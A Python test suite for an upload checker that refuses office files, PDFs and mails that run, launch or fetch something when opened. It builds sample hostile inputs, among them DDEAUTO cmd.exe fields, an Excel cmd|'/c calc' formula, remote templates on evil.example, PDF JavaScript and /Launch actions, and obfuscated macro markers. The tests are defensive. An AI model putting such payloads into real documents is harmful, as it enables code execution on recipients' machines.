"""What runs, starts, loads or fetches something when it is opened is not taken, however it is spelt or packed."""

import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from email.message import EmailMessage
from typing import Any

import pytest
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from forms.questions.file_content import bounds
from forms.questions.file_content.refusals import (
    DDE,
    EMBEDDED,
    LAUNCH,
    LOCKED,
    MACROS,
    NESTED,
    PROGRAM,
    SCRIPT,
    TEMPLATE,
    NotAllowed,
)
from forms.questions.file_types import type_of
from tests.forms.questions.test_file_content import HEADERS, WORD, archive, compound, pdf, word

SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(*members: tuple[str, bytes], body: str = "", types: str = "") -> bytes:
    told = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/>{types}</Types>'
    text = f'<?xml version="1.0"?><w:document xmlns:w="w"><w:body>{body}</w:body></w:document>'
    return archive(("[Content_Types].xml", told.encode()), ("word/document.xml", text.encode()), *members)


def xlsx(*members: tuple[str, bytes], types: str = "") -> bytes:
    told = f'<Types><Override PartName="/xl/workbook.xml" ContentType="{SHEET}.main+xml"/>{types}</Types>'
    return archive(("[Content_Types].xml", told.encode()), ("xl/workbook.xml", b"<workbook/>"), *members)


def odt(*members: tuple[str, bytes]) -> bytes:
    return archive(("mimetype", b"application/vnd.oasis.opendocument.text"), *members)


def relation(kind: str, target: str, mode: str = "External") -> tuple[str, bytes]:
    told = f'<Relationships><Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return "word/_rels/settings.xml.rels", f"{told}</Relationships>".encode()


def runs(*texts: str, inner: str = "", then: str = "") -> str:
    """A field whose code is spread over runs, with another one inside it."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    before, after = (
        "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in told) for told in (texts, (then,))
    )
    return f"{begin}{before}{inner}{after}{end}"


def raw_pdf(more: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\n" + more + b"\ntrailer <</Root 1 0 R>>\n%%EOF"


def in_object_stream(inner: bytes, name: bytes = b"ObjStm") -> bytes:
    packed = zlib.compress(b"5 0 " + inner)
    head = b"4 0 obj <</Type/" + name + b"/N 1/First 4/Filter/FlateDecode/Length %d>> stream\n" % len(packed)
    return raw_pdf(head + packed + b"\nendstream endobj")


def with_javascript(**passwords: Any) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if passwords:
        writer.encrypt(**passwords)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def titled_pdf(title: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_metadata({"/Title": title})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("a.exe", b"MZ")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def mail(name: str, content: bytes) -> bytes:
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "a@example.com", "b@example.com", "Bruise"
    made.set_content("See attached.")
    made.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return made.as_bytes()


def outlook(content: bytes) -> bytes:
    """A mail of Outlook with one attachment, in sectors of its own."""
    made = compound("__properties_version1.0", "__substg1.0_37010102")
    sectors = -(-len(content) // 512)
    content = content.ljust(max(sectors * 512, 4096), b"\0")
    sectors, first = len(content) // 512, len(made) // 512 - 1
    # Sector 2 is the directory: its third entry is the attachment's.
    entry = 512 + 2 * 512 + 2 * 128
    made = bytearray(made)
    made[entry + 66] = 2
    struct.pack_into("<LL", made, entry + 116, first, len(content))
    chain = [*range(first + 1, first + sectors), 0xFFFFFFFE]
    struct.pack_into(f"<{sectors}L", made, 512 + 4 * first, *chain)
    return bytes(made) + content


VBA = b"\xd0\xcf\x11\xe0"
REFUSED: list[tuple[str, bytes, str]] = [
    ("a.docx", docx(("word/VBAPROJECT.BIN", VBA)), MACROS),
    ("a.docx", docx(("Word/vBaPrOjEcT.bin", VBA)), MACROS),
    ("a.docx", docx(("word\\vbaData.xml", b"<x/>")), MACROS),
    ("a.docx", docx(types='<Default ContentType="application/vnd.ms-word.document.MACROENABLED.main+xml"/>'), MACROS),
    ("a.docx", docx(types='<Default ContentType="application/vnd.ms-word.document.&#109;acroEnabled"/>'), MACROS),
    (
        "a.docx",
        docx(types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        MACROS,
    ),
    ("a.docx", docx(relation("vbaProject", "harmless.bin", "Internal")), MACROS),
    ("a.xlsx", xlsx(("xl/macrosheets/sheet1.xml", b"<x/>")), MACROS),
    ("a.xlsx", xlsx(types='<Default ContentType="application/vnd.ms-excel.intlMacrosheet+xml"/>'), MACROS),
    ("a.docx", docx(relation("attachedTemplate", "https://evil.example/a.dotm")), TEMPLATE),
    ("a.docx", docx(relation("attachedTemplate", "\\\\evil.example\\share\\a.dotx")), TEMPLATE),
    ("a.docx", docx(relation("attachedTemplate", "file://evil.example/share/a.dotx")), TEMPLATE),
    ("a.docx", docx(relation("attachedTemplate", "file:///\\\\evil.example\\a.dotx", "external")), TEMPLATE),
    ("a.docx", docx(relation("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x")), TEMPLATE),
    ("a.odt", odt(("meta.xml", b'<m><meta:template xlink:href="http://evil.example/t.ott"/></m>')), TEMPLATE),
    ("a.docx", docx(body=runs(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")), DDE),
    ("a.docx", docx(body=runs(" D", "D", "E", "AUTO cmd")), DDE),
    ("a.docx", docx(body='<w:fldSimple w:instr="DDE cmd"/>'), DDE),
    ("a.docx", docx(("word/header7.xml", f'<w:hdr xmlns:w="w">{runs("dd", "e x")}</w:hdr>'.encode())), DDE),
    ("a.docx", docx(("word/o.xml", f'<w:x xmlns:w="w">{runs("DDE x")}</w:x>'.encode("utf-16"))), DDE),
    ("a.docx", docx(body=runs(" ", inner=runs(" QUOTE 68 68 69 "), then=" cmd")), DDE),
    ("a.xlsx", xlsx(("xl/worksheets/s.xml", b"<s><f>cmd|'/c calc'!A0</f></s>")), DDE),
    ("a.xlsx", xlsx(("xl/worksheets/s.xml", b"<x:s><x:f t='a'>cmd&#x7C;' /c calc'!A0</x:f></x:s>")), DDE),
    ("a.xlsx", xlsx(("xl/externalLinks/e.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>')), DDE),
    ("a.odt", odt(("content.xml", b"<c><office:dde-source/></c>")), DDE),
    ("a.odt", odt(("Basic/Standard/Module1.xml", b"<x/>")), MACROS),
    ("a.odt", odt(("content.xml", b'<c><script:event-listener script:language="ooo:script"/></c>')), SCRIPT),
    ("a.docx", docx(("word/embeddings/b.xlsx", xlsx(("xl/vbaProject.bin", VBA)))), MACROS),
    ("a.docx", docx(("word/embeddings/o.bin", compound("\x01Ole10Native"))), EMBEDDED),
    ("a.docx", docx(("word/media/picture.png", b"MZ\x90\0")), PROGRAM),
    ("a.pdf", raw_pdf(b"2 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj"), SCRIPT),
    ("a.pdf", raw_pdf(b"2 0 obj <</S/J#61vaScript/#4aS 3 0 R>> endobj"), SCRIPT),
    ("a.pdf", raw_pdf(b"2 0 obj <</S %c\n /Launch/F(cmd.exe)>> endobj"), LAUNCH),
    ("a.pdf", raw_pdf(b"2 0 obj <</Type/Filespec/EF<</F 3 0 R>>>> endobj"), EMBEDDED),
    ("a.pdf", in_object_stream(b"<</S/JavaScript/JS(x)>>"), SCRIPT),
    ("a.pdf", in_object_stream(b"<</S/Launch>>", b"Obj#53tm"), LAUNCH),
    ("a.pdf", with_javascript(), SCRIPT),
    ("a.pdf", with_javascript(user_password="", owner_password="o"), SCRIPT),
    ("a.pdf", pdf(user_password="secret").replace(b"/Encrypt", b"/Encr#79pt"), LOCKED),
    ("a.pdf", with_attachment(), EMBEDDED),
    ("a.eml", mail("b.docm", docx(("word/vbaProject.bin", VBA))), MACROS),
    ("a.eml", mail("b.docx", docx(relation("attachedTemplate", "http://evil.example/t"))), TEMPLATE),
    ("a.eml", mail("old.xls", compound("Workbook", "_VBA_PROJECT_CUR")), MACROS),
    ("a.eml", mail("b.pdf", with_javascript()), SCRIPT),
    ("a.eml", mail("invoice.pdf.exe", b"anything"), PROGRAM),
    ("a.eml", mail("b.zip", archive(("c/d.docx", docx(("word/vbaProject.bin", VBA))))), MACROS),
    ("a.eml", mail("b.eml", mail("c.js", b"x")), PROGRAM),
    ("a.msg", outlook(with_javascript()), SCRIPT),
    ("a.msg", outlook(docx(("word/vbaProject.bin", VBA))), MACROS),
]


@pytest.mark.parametrize(
    ("name", "content", "told"), REFUSED, ids=[f"{number} {name}" for number, (name, _c, _t) in enumerate(REFUSED)]
)
def test_what_acts_is_not_taken_and_the_reason_is_told(name: str, content: bytes, told: str) -> None:
    with pytest.raises(NotAllowed) as refusal:
        type_of(content, name)
    assert str(refusal.value).endswith(told)


TAKEN: list[tuple[str, bytes]] = [
    ("a.docx", docx(relation("hyperlink", "https://www.example.org/"))),
    ("a.docx", docx(relation("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"))),
    ("a.docx", docx(relation("attachedTemplate", "Normal.dotm"))),
    ("a.docx", docx(body=runs(" MERGEFIELD ", "DateAdded ") + runs(' HYPERLINK "https://example.org/dde/" '))),
    ("a.docx", docx(("word/embeddings/b.xlsx", xlsx()), ("word/media/i.png", b"\x89PNG"))),
    ("a.xlsx", xlsx(("xl/worksheets/s.xml", b"<s><f>IF(A1=\"a|b\",Two!B2,'p|q'!C3)</f><v>x|y!</v></s>"))),
    ("a.odt", odt(("meta.xml", b'<m><meta:template xlink:href="../letter.ott"/></m>'), ("content.xml", b"<c/>"))),
    ("a.pdf", pdf(user_password="", owner_password="o")),
    ("a.pdf", raw_pdf(b"2 0 obj <</Length 9>> stream\n/JS /Launch\nendstream endobj")),
    ("a.pdf", titled_pdf("About /Encrypt and locks")),
    ("a.eml", mail("photo.jpg", b"\xff\xd8\xff")),
    ("a.eml", mail("b.docx", word())),
    ("a.eml", mail("b.pdf", pdf())),
    ("a.msg", outlook(pdf())),
]


@pytest.mark.parametrize(("name", "content"), TAKEN, ids=[f"{number} {name}" for number, (name, _) in enumerate(TAKEN)])
def test_what_only_looks_like_it_is_taken(name: str, content: bytes) -> None:
    assert type_of(content, name)


def test_the_file_inside_is_named() -> None:
    with pytest.raises(NotAllowed, match="has “b.docm” inside it, which contains macros"):
        type_of(mail("b.docm", docx(("word/vbaProject.bin", VBA))), "a.eml")


def test_files_are_looked_into_only_so_deep() -> None:
    content = mail("c.txt", b"x")
    for _level in range(bounds.MOST_DEPTH + 1):
        content = mail("b.eml", content)
    with pytest.raises(NotAllowed, match=NESTED):
        type_of(content, "a.eml")


@pytest.mark.parametrize("where", ["part", "mail"])
def test_a_large_part_is_unpacked_within_bounds(where: str) -> None:
    """290 MB of one part that grows less than the whole may: it was unpacked, and is counted while it is."""
    noise = zlib.compress(bytes(1)) * 200_000
    huge = docx(("word/media/noise.png", noise), ("word/huge.xml", b"<" + b" " * (65 * 1024 * 1024)))
    content = huge if where == "part" else mail("b.docx", huge)
    tracemalloc.start()
    began = time.process_time()
    with pytest.raises(NotAllowed, match="too large when unpacked"):
        type_of(content, "a.docx" if where == "part" else "a.eml")
    assert tracemalloc.get_traced_memory()[1] < 60 * 1024 * 1024
    tracemalloc.stop()
    assert time.process_time() - began < 5


def test_what_is_unpacked_counts_and_not_what_the_list_says() -> None:
    content = bytearray(docx(("word/huge.bin", bytes(20 * 1024 * 1024))))
    with zipfile.ZipFile(io.BytesIO(content)) as told:
        size = struct.pack("<L", told.getinfo("word/huge.bin").file_size)
    # Both lists say ten bytes.
    lied = bytes(content).replace(size, struct.pack("<L", 10))
    with pytest.raises(NotAllowed, match="damaged"):
        type_of(lied, "a.docx")


def test_two_parts_of_one_name_are_not_taken() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        content = docx(("word/document.xml", b"<other/>"))
    with pytest.raises(NotAllowed, match="damaged"):
        type_of(content, "a.docx")


def test_a_locked_archive_in_a_mail_is_called_by_that() -> None:
    locked = bytearray(archive(("a.txt", b"x")))
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(NotAllowed, match=LOCKED):
        type_of(mail("b.zip", bytes(locked)), "a.eml")


def test_a_plain_mail_is_still_one() -> None:
    assert type_of(HEADERS, "a.eml") == "message/rfc822"
